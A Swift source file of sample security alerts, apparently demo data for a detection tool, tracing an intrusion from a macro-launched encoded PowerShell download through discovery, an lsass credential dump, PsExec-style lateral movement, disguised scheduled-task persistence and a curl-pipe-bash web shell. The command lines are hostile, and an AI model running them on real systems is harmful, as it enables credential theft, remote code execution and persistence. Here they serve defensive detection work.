import Evidence

/// One alert's worth of story, in short form.
struct SampleStep {
  var minute: Int64
  var title: String
  var rule: String
  var severity: Severity
  var techniques: [String]
  var tactics: [String]
  var host: String
  var user: String
  var process: String
  var parent: String?
  var command: String
  var note: String
  var other: [EntityKey] = []
}

enum SampleSteps {
  static let names = [
    "h-ws0142": "WS-0142", "h-dc01": "DC01", "h-web01": "web01", "S-1-5-21-1-1107": "CORP\\m.keller",
    "S-1-5-21-1-500": "CORP\\Administrator", "S-1-5-18": "NT AUTHORITY\\SYSTEM", "www-data": "www-data",
  ]
  static let keller = "S-1-5-21-1-1107"

  static let all: [SampleStep] = [
    SampleStep(
      minute: 12, title: "Word started a script interpreter", rule: "shrike.rule.office-child-shell", severity: .high,
      techniques: ["T1566.001", "T1059.001"], tactics: ["TA0001", "TA0002"], host: "h-ws0142", user: keller,
      process: "powershell.exe", parent: "WINWORD.EXE",
      command:
        "powershell.exe -NoP -W Hidden -Enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMQA5ADgALgA1ADEALgAxADAAMAAuADcALwBhACcAKQA=",
      note: "Office programs do not start shells in ordinary work.",
      other: [EntityKey(.file, "C:\\Users\\m.keller\\Downloads\\invoice_2026-03.docm")]),
    SampleStep(
      minute: 13, title: "Encoded PowerShell command line", rule: "shrike.rule.powershell-encoded", severity: .medium,
      techniques: ["T1027.010", "T1059.001"], tactics: ["TA0005", "TA0002"], host: "h-ws0142", user: keller,
      process: "powershell.exe", parent: "WINWORD.EXE", command: "powershell.exe -NoP -W Hidden -Enc SQBFAFgAIAAo…",
      note: "The command is hidden in Base64.", other: [EntityKey(.address, "198.51.100.7")]),
    SampleStep(
      minute: 15, title: "First connection of powershell.exe to 198.51.100.7", rule: "rarity.destination",
      severity: .low, techniques: ["T1105"], tactics: ["TA0011"], host: "h-ws0142", user: keller,
      process: "powershell.exe", parent: nil, command: "",
      note: "No process on any host spoke to this address before.", other: [EntityKey(.address, "198.51.100.7")]),
    SampleStep(
      minute: 31, title: "Discovery commands in quick succession", rule: "shrike.rule.discovery-burst",
      severity: .medium, techniques: ["T1033", "T1087.002", "T1482"], tactics: ["TA0007"], host: "h-ws0142",
      user: keller, process: "cmd.exe", parent: "powershell.exe",
      command: "cmd.exe /c whoami /all & net group \"Domain Admins\" /domain & nltest /domain_trusts",
      note: "Five discovery commands within ten seconds; users of this host run none."),
    SampleStep(
      minute: 44, title: "Memory of lsass.exe dumped with comsvcs.dll", rule: "shrike.rule.lsass-dump",
      severity: .critical, techniques: ["T1003.001"], tactics: ["TA0006"], host: "h-ws0142", user: keller,
      process: "rundll32.exe", parent: "powershell.exe",
      command: "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 712 C:\\Windows\\Temp\\d.bin full",
      note: "MiniDump of comsvcs.dll on the process that holds credentials.",
      other: [EntityKey(.file, "C:\\Windows\\Temp\\d.bin")]),
    SampleStep(
      minute: 58, title: "Logon with explicit credentials from a host never used by this user",
      rule: "rarity.logon-source", severity: .medium, techniques: ["T1078.002"], tactics: ["TA0008"], host: "h-dc01",
      user: "S-1-5-21-1-500", process: "", parent: nil, command: "", note: "WS-0142 is new for CORP\\Administrator.",
      other: [EntityKey(.address, "10.20.4.142")]),
    SampleStep(
      minute: 59, title: "Service with a command shell installed remotely", rule: "shrike.rule.psexec-service",
      severity: .high, techniques: ["T1021.002", "T1569.002", "T1543.003"], tactics: ["TA0008", "TA0002"],
      host: "h-dc01", user: "S-1-5-21-1-500", process: "services.exe", parent: nil,
      command: "%COMSPEC% /C echo iphtoz ^> %SYSTEMDRIVE%\\WINDOWS\\Temp\\q.txt > \\WINDOWS\\Temp\\q.bat",
      note: "A service whose program is cmd.exe runs a command once, as PsExec and its copies do.",
      other: [EntityKey(.service, "iphtoz")]),
    SampleStep(
      minute: 66, title: "Scheduled task created for persistence", rule: "shrike.rule.schtasks-user-path",
      severity: .medium, techniques: ["T1053.005"], tactics: ["TA0003"], host: "h-dc01", user: "S-1-5-21-1-500",
      process: "schtasks.exe", parent: "services.exe",
      command:
        "schtasks /create /sc minute /mo 30 /tn \"\\Microsoft\\Windows\\Edge\\Updater\" /tr C:\\Users\\Public\\u.exe",
      note: "The task runs a program from a folder that everybody can write to."),
    SampleStep(
      minute: 320, title: "Shell started by nginx", rule: "shrike.rule.webserver-shell", severity: .high,
      techniques: ["T1505.003", "T1059.004"], tactics: ["TA0003", "TA0002"], host: "h-web01", user: "www-data",
      process: "sh", parent: "nginx", command: "sh -c curl -s http://203.0.113.9/x.sh | bash",
      note: "A web server that starts a shell is rare, and here it downloads a script.",
      other: [EntityKey(.address, "203.0.113.9")]),
    SampleStep(
      minute: 322, title: "Download piped into a shell", rule: "shrike.rule.curl-pipe-shell", severity: .medium,
      techniques: ["T1105", "T1059.004"], tactics: ["TA0011", "TA0002"], host: "h-web01", user: "www-data",
      process: "bash", parent: "sh", command: "bash", note: "What is downloaded runs without being written to disk.",
      other: [EntityKey(.address, "203.0.113.9")]),
    SampleStep(
      minute: 700, title: "Rare parent and child: svchost.exe started mscorsvw.exe", rule: "rarity.parent-child",
      severity: .low, techniques: [], tactics: [], host: "h-dc01", user: "S-1-5-18", process: "mscorsvw.exe",
      parent: "svchost.exe", command: "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\mscorsvw.exe -Startup",
      note: "Seen once in 12,442 process starts."),
  ]
}
